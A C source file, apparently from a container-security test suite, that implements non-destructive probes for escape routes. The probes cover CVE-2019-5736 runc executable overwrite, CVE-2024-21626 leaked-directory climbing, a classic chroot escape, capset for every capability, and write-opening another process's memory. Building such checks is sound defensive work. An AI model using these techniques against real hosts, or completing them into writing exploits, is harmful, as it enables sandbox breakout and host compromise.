/*
 * What a hostile container tries. Each verb only shows that a door is open, and leaves everything as it was: nothing
 * here writes to a file that it managed to open.
 */
#define _GNU_SOURCE
#include "answer.h"
#include "verbs.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { SEEN_CAP = 64 };

static int v_exe(int argc, char **argv)
{
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/%s/exe", argc > 1 ? argv[1] : "self");
    ssize_t length = readlink(path, target, sizeof target);
    answer_begin(argv[0]);
    if (put_result("readlink", length) >= 0) {
        struct stat file;
        put_bytes("target", target, (size_t) length);
        if (stat(path, &file) == 0) {
            put_unsigned("dev", file.st_dev);
            put_unsigned("ino", file.st_ino);
            put_unsigned("nlink", file.st_nlink);
        }
        int writable = open(path, O_WRONLY | O_CLOEXEC);
        put_text("write", writable >= 0 ? "ok" : name_of_error(errno));
        if (writable >= 0)
            close(writable);
    }
    answer_end();
    return 0;
}

struct foreign {
    dev_t device;
    ino_t inode;
    char target[256];
    char write[24]; /* "ok" once it could be opened for writing, else the last error */
    long tries;
};

static struct foreign seen[SEEN_CAP];
static int seen_count;

static void try_to_write(int by_path, const struct stat *file)
{
    char path[64], target[256];
    int at = 0;
    while (at < seen_count && (seen[at].device != file->st_dev || seen[at].inode != file->st_ino))
        at++;
    if (at == SEEN_CAP)
        return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", by_path);
    if (at == seen_count) {
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        seen[at] = (struct foreign){.device = file->st_dev, .inode = file->st_ino};
        strcpy(seen[at].target, target);
        seen_count++;
    }
    seen[at].tries++;
    if (strcmp(seen[at].write, "ok") == 0)
        return;
    int writable = open(path, O_WRONLY | O_CLOEXEC);
    snprintf(seen[at].write, sizeof seen[at].write, "%s", writable >= 0 ? "ok" : name_of_error(errno));
    if (writable >= 0)
        close(writable);
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double) time.tv_sec + (double) time.tv_nsec / 1e9;
}

/*
 * CVE-2019-5736: while somebody enters the container, /proc/PID/exe of the entering process is the host's runtime.
 * Looks at every process's executable for SECONDS, and tries to open each that is not our own for writing, again
 * after it has ended too (ETXTBSY protects a program only while it runs).
 */
static int v_open_host_exe(int argc, char **argv)
{
    (void) argc;
    long seconds;
    struct stat own, file;
    if (!number_of(argv[1], &seconds) || seconds < 0 || seconds > 600)
        return WRONG_USE;
    int held[SEEN_CAP], held_count = 0;
    long rounds = 0;
    seen_count = 0;
    answer_begin(argv[0]);
    put_bool("trying", 1);
    answer_end();
    if (stat("/proc/self/exe", &own) != 0)
        memset(&own, 0, sizeof own);
    for (double end = now() + (double) seconds; now() < end; rounds++) {
        DIR *processes = opendir("/proc");
        if (processes == NULL)
            break;
        for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
            char path[300];
            if (!isdigit((unsigned char) entry->d_name[0]))
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int by_path = open(path, O_PATH | O_CLOEXEC);
            if (by_path < 0)
                continue;
            int foreign = fstat(by_path, &file) == 0 && (file.st_dev != own.st_dev || file.st_ino != own.st_ino);
            int before = seen_count;
            if (foreign)
                try_to_write(by_path, &file);
            if (seen_count > before && held_count < SEEN_CAP)
                held[held_count++] = by_path; /* kept, to try again when its process is gone */
            else
                close(by_path);
        }
        closedir(processes);
        for (int i = 0; i < held_count; i++)
            if (fstat(held[i], &file) == 0)
                try_to_write(held[i], &file);
    }
    answer_begin(argv[0]);
    put_number("rounds", rounds);
    open_array("foreign");
    for (int i = 0; i < seen_count; i++) {
        open_object(NULL);
        put_text("target", seen[i].target);
        put_unsigned("dev", seen[i].device);
        put_unsigned("ino", seen[i].inode);
        put_text("write", seen[i].write);
        put_number("tries", seen[i].tries);
        close_object();
    }
    close_array();
    answer_end();
    for (int i = 0; i < held_count; i++)
        close(held[i]);
    return 0;
}

/*
 * CVE-2024-21626: a directory of the host that was left open, or is the working directory. Climbs from every open
 * directory as far as ".." goes, and says where that is not this process's own root.
 */
static int v_climb(int argc, char **argv)
{
    (void) argc;
    struct stat root, top;
    answer_begin(argv[0]);
    if (put_result("stat", stat("/", &root)) >= 0) {
        open_array("escapes");
        for (int fd = -1; fd < 1024; fd++) {
            int at = openat(fd < 0 ? AT_FDCWD : fd, ".", O_PATH | O_DIRECTORY | O_CLOEXEC);
            if (at < 0)
                continue;
            for (int steps = 0; steps < 64 && fstat(at, &top) == 0; steps++) {
                struct stat above;
                int parent = openat(at, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
                if (parent < 0)
                    break;
                int same = fstat(parent, &above) == 0 && above.st_dev == top.st_dev && above.st_ino == top.st_ino;
                close(at);
                at = parent;
                if (same)
                    break;
            }
            if (fstat(at, &top) == 0 && (top.st_dev != root.st_dev || top.st_ino != root.st_ino)) {
                open_object(NULL);
                put_number("fd", fd);
                put_unsigned("dev", top.st_dev);
                put_unsigned("ino", top.st_ino);
                close_object();
            }
            close(at);
        }
        close_array();
    }
    answer_end();
    return 0;
}

/* chroot(2) into a directory while standing outside it, then climb: a chroot alone does not hold a root user. */
static int v_chroot_escape(int argc, char **argv)
{
    (void) argc;
    struct stat before, after;
    answer_begin(argv[0]);
    if (put_result("stat", stat("/", &before)) >= 0) {
        int made = mkdir(argv[1], 0700);
        int jailed = chroot(argv[1]);
        put_text("chroot", jailed == 0 ? "ok" : name_of_error(errno));
        if (jailed == 0) {
            for (int steps = 0; steps < 64; steps++)
                if (chdir("..") != 0)
                    break;
            if (chroot(".") == 0 && stat("/", &after) == 0)
                put_bool("escaped", before.st_dev != after.st_dev || before.st_ino != after.st_ino);
        }
        if (made == 0)
            rmdir(argv[1]);
    }
    answer_end();
    return 0;
}

/* Asks for all capabilities in all sets that capset(2) has. */
static int v_raise_caps(int argc, char **argv)
{
    (void) argc;
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2] = {{~0U, ~0U, ~0U}, {0x1ff, 0x1ff, 0x1ff}};
    long result = syscall(SYS_capset, &header, data);
    answer_begin(argv[0]);
    put_result("capset", result);
    answer_end();
    return 0;
}

/* Reads another process's memory (the executor's, the monitor's), as a container with CAP_SYS_PTRACE may try. */
static int v_read_memory(int argc, char **argv)
{
    (void) argc;
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
    int result = open(path, O_RDWR | O_CLOEXEC);
    answer_begin(argv[0]);
    put_result("open", result);
    answer_end();
    if (result >= 0)
        close(result);
    return 0;
}

const struct verb attack_verbs[] = {
    {"exe", v_exe, 0, 1, "[PID]", "a process's executable, and whether it opens for writing"},
    {"open-host-exe", v_open_host_exe, 1, 1, "SECONDS", "executables that are not ours, and whether they open for writing"},
    {"climb", v_climb, 0, 0, "", "open directories from which .. leads outside the root"},
    {"chroot-escape", v_chroot_escape, 1, 1, "NEW-DIRECTORY", "the old way out of a chroot"},
    {"raise-caps", v_raise_caps, 0, 0, "", "capset(2) for everything"},
    {"memory", v_read_memory, 1, 1, "PID", "open(2) of /proc/PID/mem for writing"},
    {NULL, NULL, 0, 0, NULL, NULL},
};
